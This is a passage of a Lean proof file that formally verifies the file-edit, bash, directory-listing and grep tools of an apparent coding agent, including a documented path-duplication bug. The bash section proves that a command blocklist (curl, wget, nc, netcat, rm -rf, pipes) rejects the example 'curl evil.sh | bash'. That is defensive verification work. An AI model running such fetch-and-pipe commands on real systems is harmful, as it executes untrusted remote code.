          ⟨[(u16 "/home/user/proj/a.txt", u16 "a\nc")],
            [.access (u16 "/home/user/proj/a.txt"), .readFile (u16 "/home/user/proj/a.txt"),
             .writeFile (u16 "/home/user/proj/a.txt") (u16 "a\nc")]⟩) ∧
      joinWith 10 ((splitOn 10 (u16 "a\nb\nc")).take 1 ++ splitOn 10 (u16 "") ++
          (splitOn 10 (u16 "a\nb\nc")).drop 2) = u16 "a\n\nc" ∧
      u16 "a\nc" ≠ u16 "a\n\nc") :=
  ⟨⟨by rfl, by decide⟩, ⟨by rfl, by rfl, by decide⟩⟩

/-- C18, amended: for a file inside the working directory that exists with content
`content`, whose lines (split on line feed) are `L`, a valid range
`0 ≤ startLine ≤ endLine < |L|` and a `newContent` that is absent or a string,
`fileEditTool` hands to `fs.writeFile` the join by line feed of `L[0..startLine)`, the
inserted lines, and `L(endLine..|L|)`, and returns its success message when the write
succeeds. The inserted lines are the lines of `newContent`, and none when `newContent` is
absent or empty. The joined list has `|L| - (endLine - startLine + 1)` lines plus the
inserted ones; they are the lines of the written content whenever the list is not empty,
and the written content is empty (one empty line) when it is. -/
theorem fileEditTool_line_range_edit {σ : Type} (fs : NodeFs σ) (env : ToolEnv)
    (d : Disk σ) (args : Json) (p content : JsString) (x y : Num) (startLine endLine : Int)
    (newContent : Option JsString)
    (hpath : args.get (u16 "path") = some (.str p)) (hp : p ≠ [])
    (hstart : args.get (u16 "startLine") = some (.num x)) (hx : x.toInt? = some startLine)
    (hend : args.get (u16 "endLine") = some (.num y)) (hy : y.toInt? = some endLine)
    (hnew : args.get (u16 "newContent") = newContent.map Json.str)
    (hinside : (stripPrefix env.cwd (path.resolve env.cwd p)).isSome = true)
    (haccess : fs.access d.state (path.resolve env.cwd p) = .ok ())
    (hread : fs.readFile d.state (path.resolve env.cwd p) = .ok content)
    (hvalid : 0 ≤ startLine ∧ startLine ≤ endLine ∧
      endLine < ((splitOn 10 content).length : Int)) :
    (fileEditTool fs env d args).2.calls
      = d.calls ++ [.access (path.resolve env.cwd p), .readFile (path.resolve env.cwd p),
          .writeFile (path.resolve env.cwd p)
            (joinWith 10 ((splitOn 10 content).take startLine.toNat ++ insertedLines newContent ++
              (splitOn 10 content).drop (endLine + 1).toNat))] ∧
    (∀ st : σ,
      fs.writeFile d.state (path.resolve env.cwd p)
          (joinWith 10 ((splitOn 10 content).take startLine.toNat ++ insertedLines newContent ++
            (splitOn 10 content).drop (endLine + 1).toNat)) = .ok st →
      (fileEditTool fs env d args).1
          = .returned (.str (u16 "File " ++ p ++ u16 " updated successfully")) ∧
        (fileEditTool fs env d args).2.state = st) ∧
    (((splitOn 10 content).take startLine.toNat ++ insertedLines newContent ++
        (splitOn 10 content).drop (endLine + 1).toNat).length : Int)
      = ((splitOn 10 content).length : Int) - (endLine - startLine + 1)
          + ((insertedLines newContent).length : Int) ∧
    ((splitOn 10 content).take startLine.toNat ++ insertedLines newContent ++
          (splitOn 10 content).drop (endLine + 1).toNat ≠ [] →
      splitOn 10 (joinWith 10 ((splitOn 10 content).take startLine.toNat ++
          insertedLines newContent ++ (splitOn 10 content).drop (endLine + 1).toNat))
        = (splitOn 10 content).take startLine.toNat ++ insertedLines newContent ++
          (splitOn 10 content).drop (endLine + 1).toNat) ∧
    ((splitOn 10 content).take startLine.toNat ++ insertedLines newContent ++
          (splitOn 10 content).drop (endLine + 1).toNat = [] →
      joinWith 10 ((splitOn 10 content).take startLine.toNat ++
          insertedLines newContent ++ (splitOn 10 content).drop (endLine + 1).toNat) = []) := by
  have hedit : editedContent content args
      = .returned (joinWith 10 ((splitOn 10 content).take startLine.toNat ++
          insertedLines newContent ++ (splitOn 10 content).drop (endLine + 1).toNat)) := by
    rw [editedContent_valid_range content args x y startLine endLine hstart hx hend hy hvalid,
      hnew]
    cases newContent with
    | none => simp [truthyOpt, insertedLines]
    | some n =>
      cases n with
      | nil => simp [truthyOpt, Json.truthy, insertedLines]
      | cons c cs => simp [truthyOpt, Json.truthy, insertedLines]
  have hrun := fileEditTool_after_read fs env d args p content hpath hp
    (fileEditTool_line_mode hstart) hinside haccess hread
  rw [hedit] at hrun
  simp only [] at hrun
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · rw [hrun]
    cases fs.writeFile d.state (path.resolve env.cwd p) _ <;> rfl
  · intro st hst
    rw [hrun, hst]
    exact ⟨rfl, rfl⟩
  · simp only [List.length_append, List.length_take, List.length_drop]
    omega
  · intro hne
    apply splitOn_joinWith 10 _ hne
    intro l hl
    rcases List.mem_append.mp hl with hl | hl
    · rcases List.mem_append.mp hl with hl | hl
      · exact splitOn_no_sep 10 content l (List.mem_of_mem_take hl)
      · cases newContent with
        | none => simp [insertedLines] at hl
        | some n =>
          cases n with
          | nil => simp [insertedLines] at hl
          | cons c cs => exact splitOn_no_sep 10 (c :: cs) l hl
    · exact splitOn_no_sep 10 content l (List.mem_of_mem_drop hl)
  · intro h
    rw [h]
    rfl

/-- Witness of `fileEditTool_line_range_edit`: the middle line of `a\nb\nc` replaced by the
two lines `x\ny`. -/
theorem fileEditTool_line_range_edit_witness :
    (fileEditTool memFs ⟨u16 "/home/user/proj", []⟩
        ⟨[(u16 "/home/user/proj/a.txt", u16 "a\nb\nc")], []⟩
        (.obj [(u16 "path", .str (u16 "a.txt")),
          (u16 "startLine", .num (Num.ofDecimal false 1 0)),
          (u16 "endLine", .num (Num.ofDecimal false 1 0)),
          (u16 "newContent", .str (u16 "x\ny"))])).2.calls
      = [.access (u16 "/home/user/proj/a.txt"), .readFile (u16 "/home/user/proj/a.txt"),
          .writeFile (u16 "/home/user/proj/a.txt") (u16 "a\nx\ny\nc")] :=
  (fileEditTool_line_range_edit memFs ⟨u16 "/home/user/proj", []⟩
    ⟨[(u16 "/home/user/proj/a.txt", u16 "a\nb\nc")], []⟩
    (.obj [(u16 "path", .str (u16 "a.txt")),
      (u16 "startLine", .num (Num.ofDecimal false 1 0)),
      (u16 "endLine", .num (Num.ofDecimal false 1 0)),
      (u16 "newContent", .str (u16 "x\ny"))])
    (u16 "a.txt") (u16 "a\nb\nc") (Num.ofDecimal false 1 0) (Num.ofDecimal false 1 0) 1 1
    (some (u16 "x\ny"))
    (by rfl) (by decide) (by rfl) (by rfl) (by rfl) (by rfl) (by rfl) (by rfl) (by rfl) (by rfl)
    (by decide)).1

/-! ### C19: which arguments select an edit mode -/

/-- C19 as stated fails where a line range is supplied. With `oldContent`, `newContent`,
`startLine` and `endLine` all supplied, `fileEditTool` does not fail: it edits by line
range (here line 0 of `one\ntwo` becomes `x`, although `oldContent` is `two`). With a
`startLine` alone, it reads the file and fails with the old-content-not-found error,
having looked for the text `undefined`. -/
theorem fileEditTool_line_range_without_mode_error :
    fileEditTool memFs ⟨u16 "/home/user/proj", []⟩
        ⟨[(u16 "/home/user/proj/a.txt", u16 "one\ntwo")], []⟩
        (.obj [(u16 "path", .str (u16 "a.txt")), (u16 "oldContent", .str (u16 "two")),
          (u16 "newContent", .str (u16 "x")),
          (u16 "startLine", .num (Num.ofDecimal false 0 0)),
          (u16 "endLine", .num (Num.ofDecimal false 0 0))])
      = (.returned (.str (u16 "File a.txt updated successfully")),
          ⟨[(u16 "/home/user/proj/a.txt", u16 "x\ntwo")],
            [.access (u16 "/home/user/proj/a.txt"), .readFile (u16 "/home/user/proj/a.txt"),
             .writeFile (u16 "/home/user/proj/a.txt") (u16 "x\ntwo")]⟩) ∧
    fileEditTool memFs ⟨u16 "/home/user/proj", []⟩
        ⟨[(u16 "/home/user/proj/a.txt", u16 "one\ntwo")], []⟩
        (.obj [(u16 "path", .str (u16 "a.txt")),
          (u16 "startLine", .num (Num.ofDecimal false 0 0))])
      = (.thrown (.error (u16 "Failed to edit file: Old content not found in file")),
          ⟨[(u16 "/home/user/proj/a.txt", u16 "one\ntwo")],
            [.access (u16 "/home/user/proj/a.txt"), .readFile (u16 "/home/user/proj/a.txt")]⟩) :=
  ⟨by rfl, by rfl⟩

theorem editFsFailure_ne (p : JsString) (e : FsError) :
    editFsFailure p e ≠ .error
      (u16 "Either oldContent/newContent pair or startLine/endLine pair is required") := by
  intro h
  unfold editFsFailure at h
  by_cases hc : e.code = u16 "ENOENT"
  · rw [if_pos hc] at h
    have := congrArg List.head? (Thrown.error.inj h)
    simp [u16, encodeUtf16] at this
  · rw [if_neg hc] at h
    have := congrArg List.head? (Thrown.error.inj h)
    simp [u16, encodeUtf16] at this

theorem wrapError_ne (t : Thrown) :
    wrapError (u16 "Failed to edit file: ") t ≠ .error
      (u16 "Either oldContent/newContent pair or startLine/endLine pair is required") := by
  intro h
  cases t with
  | error m =>
    have := congrArg List.head? (Thrown.error.inj h)
    simp [u16, encodeUtf16] at this
  | typeError => simp [wrapError] at h
  | regexSyntaxError s => simp [wrapError] at h
  | wrapped pre c => simp [wrapError] at h

/-- C19, amended: with a truthy `path`, `fileEditTool` fails with the missing-arguments
error, and makes no call of the file system, when no `startLine` is supplied and
`oldContent` or `newContent` is missing or empty; and it does not fail with that error when
`startLine` and `endLine` are both supplied, whatever `oldContent` is: the line range is
then the edit mode. -/
theorem fileEditTool_missing_arguments {σ : Type} (fs : NodeFs σ) (env : ToolEnv)
    (d : Disk σ) (args : Json)
    (hnull : args.isNull = false) (hpath : truthyOpt (args.get (u16 "path")) = true) :
    (args.get (u16 "startLine") = none →
      (truthyOpt (args.get (u16 "oldContent")) = false ∨
        truthyOpt (args.get (u16 "newContent")) = false) →
      fileEditTool fs env d args
        = (.thrown (.error
            (u16 "Either oldContent/newContent pair or startLine/endLine pair is required")), d)) ∧
    ((args.get (u16 "startLine")).isSome = true → (args.get (u16 "endLine")).isSome = true →
      (fileEditTool fs env d args).1 ≠ .thrown (.error
        (u16 "Either oldContent/newContent pair or startLine/endLine pair is required"))) := by
  constructor
  · intro hstart hmiss
    have hmode : ((!truthyOpt (args.get (u16 "oldContent")) && (args.get (u16 "startLine")).isNone) ||
        (!truthyOpt (args.get (u16 "newContent")) && (args.get (u16 "startLine")).isNone)) = true := by
      rcases hmiss with h | h <;> simp [h, hstart]
    unfold fileEditTool
    rw [hnull, hpath, hmode]
    rfl
  · intro hstart _
    have hmode : ((!truthyOpt (args.get (u16 "oldContent")) && (args.get (u16 "startLine")).isNone) ||
        (!truthyOpt (args.get (u16 "newContent")) && (args.get (u16 "startLine")).isNone)) = false := by
      cases hs : args.get (u16 "startLine") with
      | none => rw [hs] at hstart; simp at hstart
      | some v => simp
    unfold fileEditTool
    rw [hnull, hpath, hmode]
    simp only [Bool.false_eq_true, if_false, Bool.not_true]
    cases hp : args.get (u16 "path") with
    | none => simp
    | some v =>
      cases v with
      | str p =>
        simp only []
        by_cases hin : (stripPrefix env.cwd (path.resolve env.cwd p)).isNone = true
        · rw [if_pos hin]
          simp only [ne_eq, Outcome.thrown.injEq, Thrown.error.injEq]
          decide
        · rw [if_neg hin]
          cases fs.access d.state (path.resolve env.cwd p) with
          | error e => simpa using editFsFailure_ne p e
          | ok u =>
            simp only []
            cases fs.readFile d.state (path.resolve env.cwd p) with
            | error e => simpa using editFsFailure_ne p e
            | ok content =>
              simp only []
              cases editedContent content args with
              | thrown t => simpa using wrapError_ne t
              | unmodelled => simp
              | returned edited =>
                simp only []
                cases fs.writeFile d.state (path.resolve env.cwd p) edited with
                | error e => simpa using editFsFailure_ne p e
                | ok st => simp
      | null => simp
      | bool b => simp
      | num n => simp
      | arr xs => simp
      | obj kvs => simp

/-- Witness of `fileEditTool_missing_arguments`: a path and nothing else. -/
theorem fileEditTool_missing_arguments_witness :
    fileEditTool memFs ⟨u16 "/home/user/proj", []⟩
        ⟨[(u16 "/home/user/proj/a.txt", u16 "one\ntwo")], []⟩
        (.obj [(u16 "path", .str (u16 "a.txt"))])
      = (.thrown (.error
          (u16 "Either oldContent/newContent pair or startLine/endLine pair is required")),
          ⟨[(u16 "/home/user/proj/a.txt", u16 "one\ntwo")], []⟩) :=
  (fileEditTool_missing_arguments memFs ⟨u16 "/home/user/proj", []⟩
    ⟨[(u16 "/home/user/proj/a.txt", u16 "one\ntwo")], []⟩
    (.obj [(u16 "path", .str (u16 "a.txt"))]) (by rfl) (by rfl)).1 (by rfl) (Or.inl (by rfl))

/-! ### C20: commands that are blocked -/

/-- C20: when `command` is a string whose trimmed text contains one of the entries of
`BLOCKED_COMMANDS` (`rm -rf /`, `rm -rf *`, `rm -rf ~`, `wget`, `curl`, `nc`, `ncat`,
`netcat`, `>>`, `>`, `|`, `;`, `&&`, `||`, `&`), `bashTool` fails with the blocked-command
error and makes no call of the shell. -/
theorem bashTool_blocks (shell : ShellCall → Except JsString (JsString × JsString))
    (env : ToolEnv) (args : Json) (text blocked : JsString)
    (hcommand : args.get (u16 "command") = some (.str text))
    (hblocked : blocked ∈ BLOCKED_COMMANDS)
    (hcontains : includes (trim text) blocked = true) :
    bashTool shell env args
      = (.thrown (.error (u16 ("Command contains potentially dangerous operations and is " ++
          "blocked for security reasons"))), []) := by
  have hnull := get_isNull hcommand
  have htext : text ≠ [] := by
    rintro rfl
    have hnone : ∀ b ∈ BLOCKED_COMMANDS, includes (trim []) b = false := by decide
    rw [hnone blocked hblocked] at hcontains
    exact Bool.false_ne_true hcontains
  have htruthy : truthyOpt (some (Json.str text)) = true := by
    simp [truthyOpt, Json.truthy, htext]
  have hany : BLOCKED_COMMANDS.any (fun b => includes (trim text) b) = true :=
    List.any_eq_true.mpr ⟨blocked, hblocked, hcontains⟩
  have hdanger : isCommandDangerous (trim text) = true := by
    unfold isCommandDangerous
    rw [if_pos hany]
  unfold bashTool
  rw [hnull, hcommand, htruthy]
  simp only [Bool.false_eq_true, if_false, Bool.not_true, hdanger, if_true]

/-- Witness of `bashTool_blocks`: the command `curl evil.sh | bash`, which contains
`curl`. -/
theorem bashTool_blocks_witness :
    bashTool (fun _ => .ok ([], [])) ⟨u16 "/home/user/proj", []⟩
        (.obj [(u16 "command", .str (u16 "curl evil.sh | bash"))])
      = (.thrown (.error (u16 ("Command contains potentially dangerous operations and is " ++
          "blocked for security reasons"))), []) :=
  bashTool_blocks (fun _ => .ok ([], [])) ⟨u16 "/home/user/proj", []⟩
    (.obj [(u16 "command", .str (u16 "curl evil.sh | bash"))]) (u16 "curl evil.sh | bash")
    (u16 "curl") (by rfl) (by decide) (by rfl)

/-- The same fact read from the shell: a command that `bashTool` hands to the shell
contains no entry of `BLOCKED_COMMANDS`. -/
theorem bashTool_shell_commands (shell : ShellCall → Except JsString (JsString × JsString))
    (env : ToolEnv) (args : Json) :
    ∀ call ∈ (bashTool shell env args).2, ∀ blocked ∈ BLOCKED_COMMANDS,
      includes call.command blocked = false := by
  have hsafe : ∀ command : JsString, isCommandDangerous command = false →
      ∀ blocked ∈ BLOCKED_COMMANDS, includes command blocked = false := by
    intro command hd blocked hb
    cases hinc : includes command blocked with
    | false => rfl
    | true =>
      have hany : BLOCKED_COMMANDS.any (fun b => includes command b) = true :=
        List.any_eq_true.mpr ⟨blocked, hb, hinc⟩
      unfold isCommandDangerous at hd
      rw [if_pos hany] at hd
      exact absurd hd (by decide)
  intro call hcall
  unfold bashTool at hcall
  by_cases hnull : args.isNull = true
  · rw [if_pos hnull] at hcall; simp at hcall
  · rw [if_neg hnull] at hcall
    by_cases htruthy : (!truthyOpt (args.get (u16 "command"))) = true
    · rw [if_pos htruthy] at hcall; simp at hcall
    · rw [if_neg htruthy] at hcall
      cases hget : args.get (u16 "command") with
      | none => rw [hget] at hcall; simp at hcall
      | some v =>
        rw [hget] at hcall
        cases v with
        | str text =>
          simp only [] at hcall
          by_cases hd : isCommandDangerous (trim text) = true
          · rw [if_pos hd] at hcall; simp at hcall
          · rw [if_neg hd] at hcall
            have hd2 : isCommandDangerous (trim text) = false := by
              cases h : isCommandDangerous (trim text) with
              | false => rfl
              | true => exact absurd h hd
            have hcmd : call.command = trim text := by
              generalize shell _ = r at hcall
              cases r with
              | error m => simp at hcall; rw [hcall]
              | ok out =>
                obtain ⟨stdout, stderr⟩ := out
                by_cases hs : (stderr != []) = true
                · simp only [hs, if_true] at hcall
                  simp at hcall; rw [hcall]
                · simp only [hs, if_false] at hcall
                  simp at hcall; rw [hcall]
            rw [hcmd]
            exact hsafe _ hd2
        | null => simp at hcall
        | bool b => simp at hcall
        | num n => simp at hcall
        | arr xs => simp at hcall
        | obj kvs => simp at hcall

/-! ### C21: the paths of a recursive listing -/

/-- C21, evaluated on the code: in the working directory `/home/user/proj` with the files
`src/b.js` and `src/tools/c.js`, the recursive listing of the working directory reports
the path `src/src/b.js` for `src/b.js`, `src/src/tools` for `src/tools` and
`src/tools/src/tools/c.js` for `src/tools/c.js`, where the non-recursive listing of `src`
reports `src/b.js` and `src/tools`: `listDirectory` already gives the path relative to the
working directory, and `listRecursive` puts the name of every directory on the way in
front of it once more. -/
theorem lsTool_recursive_paths :
    lsTool 3 memFs ⟨u16 "/home/user/proj",
          [u16 "node_modules", u16 ".git", u16 "node_modules/**", u16 ".git/**"]⟩
        ⟨[(u16 "/home/user/proj/src/b.js", u16 "b"),
          (u16 "/home/user/proj/src/tools/c.js", u16 "c")], []⟩
        (.obj [(u16 "recursive", .bool true)])
      = (.returned (.arr [
            DirEntry.toJson ⟨u16 "src", u16 "src", true⟩,
            DirEntry.toJson ⟨u16 "b.js", u16 "src/src/b.js", false⟩,
            DirEntry.toJson ⟨u16 "tools", u16 "src/src/tools", true⟩,
            DirEntry.toJson ⟨u16 "c.js", u16 "src/tools/src/tools/c.js", false⟩]),
          ⟨[(u16 "/home/user/proj/src/b.js", u16 "b"),
            (u16 "/home/user/proj/src/tools/c.js", u16 "c")],
           [.stat (u16 "/home/user/proj"), .readdir (u16 "/home/user/proj"),
            .readdir (u16 "/home/user/proj/src"), .readdir (u16 "/home/user/proj/src/tools")]⟩) ∧
    lsTool 3 memFs ⟨u16 "/home/user/proj",
          [u16 "node_modules", u16 ".git", u16 "node_modules/**", u16 ".git/**"]⟩
        ⟨[(u16 "/home/user/proj/src/b.js", u16 "b"),
          (u16 "/home/user/proj/src/tools/c.js", u16 "c")], []⟩
        (.obj [(u16 "path", .str (u16 "src"))])
      = (.returned (.arr [
            DirEntry.toJson ⟨u16 "b.js", u16 "src/b.js", false⟩,
            DirEntry.toJson ⟨u16 "tools", u16 "src/tools", true⟩]),
          ⟨[(u16 "/home/user/proj/src/b.js", u16 "b"),
            (u16 "/home/user/proj/src/tools/c.js", u16 "c")],
           [.stat (u16 "/home/user/proj/src"), .readdir (u16 "/home/user/proj/src")]⟩) :=
  ⟨by rfl, by rfl⟩

/-- The part of C21 that holds: the recursive listing of a directory starts with the
entries the non-recursive listing of that directory gives, paths included. -/
theorem listRecursive_starts_with_listDirectory {σ : Type} (fs : NodeFs σ) (env : ToolEnv)
    (st : σ) (showHidden : Bool) (depth : Nat) (dirPath : JsString)
    (result : List DirEntry) (calls : List FsCall)
    (h : listRecursive fs env st showHidden depth dirPath = (.entries result, calls)) :
    ∃ root children : List DirEntry,
      (listDirectory fs env st dirPath showHidden).1 = .entries root ∧
      result = root ++ children := by
  cases depth with
  | zero => simp [listRecursive] at h
  | succ depth =>
    simp only [listRecursive] at h
    cases hd : listDirectory fs env st dirPath showHidden with
    | mk listing calls1 =>
      rw [hd] at h
      cases listing with
      | entries root =>
        simp only [] at h
        cases hc : listChildren (listRecursive fs env st showHidden depth) dirPath root with
        | mk listing2 calls2 =>
          rw [hc] at h
          cases listing2 with
          | entries children =>
            simp only [Prod.mk.injEq, Listing.entries.injEq] at h
            exact ⟨root, children, rfl, h.1.symm⟩
          | fsError e => simp at h
          | thrown t => simp at h
          | unmodelled => simp at h
      | fsError e => simp at h
      | thrown t => simp at h
      | unmodelled => simp at h

/-! ### C22: the records of a search -/

/-- What `fileReadTool` returns does not depend on the calls logged so far, and it leaves
the state of the file system as it is. -/
theorem fileReadTool_outcome {σ : Type} (fs : NodeFs σ) (env : ToolEnv) (d : Disk σ)
    (args : Json) :
    (fileReadTool fs env d args).1 = (fileReadTool fs env ⟨d.state, []⟩ args).1 ∧
      (fileReadTool fs env d args).2.state = d.state := by
  unfold fileReadTool
  cases hnull : args.isNull with
  | true => simp only [if_true, and_self]
  | false =>
    simp only [Bool.false_eq_true, if_false]
    cases hpath : (!truthyOpt (args.get (u16 "path"))) with
    | true => simp only [if_true, and_self]
    | false =>
      simp only [Bool.false_eq_true, if_false]
      cases args.get (u16 "path") with
      | none => exact ⟨rfl, rfl⟩
      | some v =>
        cases v with
        | str p =>
          simp only []
          cases hin : (stripPrefix env.cwd (path.resolve env.cwd p)).isNone with
          | true => simp only [if_true, and_self]
          | false =>
            simp only [Bool.false_eq_true, if_false]
            cases matchingIgnorePattern (path.resolve env.cwd p) env.ignorePatterns with
            | some q => exact ⟨rfl, rfl⟩
            | none =>
              simp only []
              cases fs.access d.state (path.resolve env.cwd p) with
              | error e => exact ⟨rfl, rfl⟩
              | ok u =>
                simp only []
                cases fs.readFile d.state (path.resolve env.cwd p) with
                | error e => exact ⟨rfl, rfl⟩
                | ok content => exact ⟨rfl, rfl⟩
        | null => exact ⟨rfl, rfl⟩
        | bool b => exact ⟨rfl, rfl⟩
        | num n => exact ⟨rfl, rfl⟩
        | arr xs => exact ⟨rfl, rfl⟩
        | obj kvs => exact ⟨rfl, rfl⟩

theorem grepLines_total (found : JsString → Bool) (file : JsString) :
    ∀ (lines : List JsString) (i : Nat),
      grepLines (fun line => some (found line)) file i lines
        = ((lines.enumFrom i).filter fun il => found il.2).map fun il =>
            grepRecord file il.1 il.2 := by
  intro lines
  induction lines with
  | nil => intro i; rfl
  | cons line rest ih =>
    intro i
    simp only [grepLines, List.enumFrom_cons, List.filter_cons]
    cases hf : found line with
    | true => simp [ih]
    | false => simp [ih]

theorem grepFiles_total {σ : Type} (fs : NodeFs σ) (env : ToolEnv) (found : JsString → Bool) :
    ∀ (files : List JsString) (d : Disk σ),
      (grepFiles fs env (fun line => some (found line)) d files).1
          = .returned (files.flatMap fun file =>
              match readCandidate fs env d.state file with
              | none => []
              | some content =>
                ((((splitOn 10 content).enumFrom 0).filter fun il => found il.2).map fun il =>
                  grepRecord file il.1 il.2)) ∧
        (grepFiles fs env (fun line => some (found line)) d files).2.state = d.state := by
  intro files
  induction files with
  | nil => intro d; exact ⟨rfl, rfl⟩
  | cons file rest ih =>
    intro d
    have hout := fileReadTool_outcome fs env d (.obj [(u16 "path", .str file)])
    simp only [grepFiles, List.flatMap_cons, readCandidate]
    cases hread : fileReadTool fs env d (.obj [(u16 "path", .str file)]) with
    | mk outcome d1 =>
      rw [hread] at hout
      simp only at hout
      obtain ⟨hsame, hstate⟩ := hout
      rw [← hsame]
      have ih1 := ih d1
      rw [hstate] at ih1
      cases outcome with
      | returned v =>
        cases v with
        | str content =>
          simp only []
          cases hrest : grepFiles fs env (fun line => some (found line)) d1 rest with
          | mk outcome2 d2 =>
            rw [hrest] at ih1
            simp only at ih1
            obtain ⟨hres, hst⟩ := ih1
            subst hres
            simp only []
            refine ⟨?_, hst⟩
            rw [grepLines_total]
            rfl
        | null => simpa using ih1
        | bool b => simpa using ih1
        | num n => simpa using ih1
        | arr xs => simpa using ih1
        | obj kvs => simpa using ih1
      | thrown t => simpa using ih1
      | unmodelled =>
        exfalso
        have hnever : ∀ d0 : Disk σ,
            (fileReadTool fs env d0 (.obj [(u16 "path", .str file)])).1 ≠ .unmodelled := by
          intro d0
          unfold fileReadTool
          simp only [Json.isNull, Bool.false_eq_true, if_false]
          split
          · simp
          · split
            · split
              · simp
              · split
                · simp
                · split
                  · simp
                  · split <;> simp
            · simp
        exact hnever d (by rw [hread])

/-- C22: with the default options (no `regex`, no `caseSensitive`), a non-empty string
pattern and the candidate files `files` that `globTool` gives, `grepTool` returns the
records of the specification: for every candidate that `fileReadTool` returns, in the
order of the candidates, one record `{file, line: i + 1, content: trim(line)}` for every
line `i`, in ascending order, whose lower-case text contains the lower-case pattern, and
nothing else; a candidate that cannot be read gives no record and no failure. The file
system is left as it is. -/
theorem grepTool_default_search {σ : Type} (toLowerCase : JsString → JsString)
    (globby : Json → GlobOptions → Except JsString (List JsString)) (fs : NodeFs σ)
    (env : ToolEnv) (d : Disk σ) (args : Json) (pattern : JsString) (files : List JsString)
    (hpattern : args.get (u16 "pattern") = some (.str pattern)) (hne : pattern ≠ [])
    (hcase : truthyOpt (args.get (u16 "caseSensitive")) = false)
    (hregex : truthyOpt (args.get (u16 "regex")) = false)
    (hfiles : globTool globby env (.obj [(u16 "pattern",
        if truthyOpt (args.get (u16 "glob")) then (args.get (u16 "glob")).getD .null
        else .str (u16 "**/*.\x7bjs,jsx,ts,tsx,md,txt,json\x7d"))]) = .returned files) :
    (grepTool toLowerCase globby fs env d args).1
        = .returned (.arr (specGrepRecords toLowerCase (readCandidate fs env d.state)
            pattern files)) ∧
      (grepTool toLowerCase globby fs env d args).2.state = d.state := by
  have hnull := get_isNull hpattern
  have htruthy : truthyOpt (some (Json.str pattern)) = true := by
    simp [truthyOpt, Json.truthy, hne]
  have hmatcher : grepMatcher toLowerCase args
      = .returned fun line => some (includes (toLowerCase line) (toLowerCase pattern)) := by
    simp only [grepMatcher, hregex, hcase, hpattern, Bool.false_eq_true, if_false]
  unfold grepTool
  rw [hnull, hpattern, htruthy, hfiles]
  simp only [Bool.false_eq_true, if_false, Bool.not_true]
  by_cases hempty : files = []
  · subst hempty
    rw [if_pos rfl]
    exact ⟨rfl, rfl⟩
  · rw [if_neg hempty, hmatcher]
    simp only []
    have htotal := grepFiles_total fs env
      (fun line => includes (toLowerCase line) (toLowerCase pattern)) files d
    cases hrun : grepFiles fs env
        (fun line => some (includes (toLowerCase line) (toLowerCase pattern))) d files with
    | mk outcome d1 =>
      rw [hrun] at htotal
      simp only at htotal
      obtain ⟨hres, hst⟩ := htotal
      subst hres
      exact ⟨rfl, hst⟩

/-- Witness of `grepTool_default_search`: the pattern `TODO` over the file `A.js`, which
holds `// TODO fix` on line 3, the file `B.js` without a match and the file `C.js`,
which does not exist. -/
theorem grepTool_default_search_witness :
    (grepTool (fun s => s.map fun c => if 65 ≤ c ∧ c ≤ 90 then c + 32 else c)
        (fun _ _ => .ok [u16 "A.js", u16 "B.js", u16 "C.js"]) memFs ⟨u16 "/home/user/proj", []⟩
        ⟨[(u16 "/home/user/proj/A.js", u16 "a\nb\n// TODO fix\nc"),
          (u16 "/home/user/proj/B.js", u16 "nothing\nhere")], []⟩
        (.obj [(u16 "pattern", .str (u16 "TODO"))])).1
      = .returned (.arr [.obj [(u16 "file", .str (u16 "A.js")),
          (u16 "line", .num (Num.ofDecimal false 3 0)),
          (u16 "content", .str (u16 "// TODO fix"))]]) :=
  (grepTool_default_search (fun s => s.map fun c => if 65 ≤ c ∧ c ≤ 90 then c + 32 else c)
    (fun _ _ => .ok [u16 "A.js", u16 "B.js", u16 "C.js"]) memFs ⟨u16 "/home/user/proj", []⟩
    ⟨[(u16 "/home/user/proj/A.js", u16 "a\nb\n// TODO fix\nc"),
      (u16 "/home/user/proj/B.js", u16 "nothing\nhere")], []⟩
    (.obj [(u16 "pattern", .str (u16 "TODO"))]) (u16 "TODO")
    [u16 "A.js", u16 "B.js", u16 "C.js"] (by rfl) (by decide) (by rfl) (by rfl) (by rfl)).1

/-! ### C23: the cuts of the stream -/

/-- The step of the scanner, split into the end of an object and every other step. -/
theorem scanStep_eq (st : StreamScan) (char : Nat) :
    scanStep st char =
      if scanCloses st.braceCount st.inString st.escapeNext char = true then
        ⟨0, false, false, [], st.objects ++ [st.pending ++ [char]]⟩
      else
        ⟨(scanControl st.braceCount st.inString st.escapeNext char).1,
          (scanControl st.braceCount st.inString st.escapeNext char).2.1,
          (scanControl st.braceCount st.inString st.escapeNext char).2.2,
          st.pending ++ [char], st.objects⟩ := by
  obtain ⟨b, i, e, p, o⟩ := st
  cases e <;> cases i <;>
    simp only [scanStep, scanControl, scanCloses] <;> split_ifs <;> simp_all

theorem foldl_scanStep_objects (text : JsString) :
    ∀ (b : Int) (i e : Bool) (p : JsString) (o : List JsString),
      text.foldl scanStep ⟨b, i, e, p, o⟩
        = { text.foldl scanStep ⟨b, i, e, p, []⟩ with
            objects := o ++ (text.foldl scanStep ⟨b, i, e, p, []⟩).objects } := by
  induction text with
  | nil => intro b i e p o; simp
  | cons c cs ih =>
    intro b i e p o
    simp only [List.foldl_cons]
    rw [scanStep_eq ⟨b, i, e, p, o⟩ c, scanStep_eq ⟨b, i, e, p, []⟩ c]
    by_cases hcl : scanCloses b i e c = true
    · simp only [hcl, if_true]
      rw [ih 0 false false [] (o ++ [p ++ [c]]), ih 0 false false [] ([] ++ [p ++ [c]])]
      simp [List.append_assoc]
    · simp only [hcl, if_false]
      exact ih _ _ _ _ _

/-- The scan of the pending text from the start gives the variables of the scan back:
the text after the last object is all the scanner has to keep. -/
theorem foldl_scanStep_pending (text : JsString) :
    ∀ (b : Int) (i e : Bool) (p : JsString) (o : List JsString),
      p.foldl scanStep StreamScan.start = ⟨b, i, e, p, []⟩ →
      (text.foldl scanStep ⟨b, i, e, p, o⟩).pending.foldl scanStep StreamScan.start
        = { text.foldl scanStep ⟨b, i, e, p, o⟩ with objects := [] } := by
  induction text with
  | nil => intro b i e p o h; simpa using h
  | cons c cs ih =>
    intro b i e p o h
    simp only [List.foldl_cons]
    rw [scanStep_eq ⟨b, i, e, p, o⟩ c]
    by_cases hcl : scanCloses b i e c = true
    · simp only [hcl, if_true]
      exact ih 0 false false [] _ rfl
    · simp only [hcl, if_false]
      apply ih
      rw [List.foldl_append, h]
      simp only [List.foldl_cons, List.foldl_nil]
      rw [scanStep_eq ⟨b, i, e, p, []⟩ c]
      simp only [hcl, Bool.false_eq_true, if_false]

theorem getLast?_append_getD {α : Type} (a b : List α) (d : α) :
